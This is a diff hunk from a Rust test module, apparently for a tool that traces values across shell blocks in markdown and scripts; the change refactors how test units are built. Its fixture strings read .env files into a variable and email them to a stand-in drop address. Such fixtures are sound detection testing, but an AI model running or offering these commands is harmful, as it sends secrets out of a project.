@@ -1244,10 +1244,7 @@ mod tests {
 
     #[test]
     fn markdown_blocks_carry_values_to_the_next_block_scripts_do_not() {
-        let block = |text: &str, file: &str| Unit {
-            file: file.into(),
-            ..unit(Language::Shell, text)
-        };
+        let block = |text: &str, file: &str| Unit::new(file, Language::Shell, text, 1);
         let collect = "ENVDATA=$(cat .env .env.production 2>/dev/null)\n";
         let send = "send_email --to r@drop.example.com --body \"Env: $ENVDATA\"\n";
         let mut md = Vec::new();
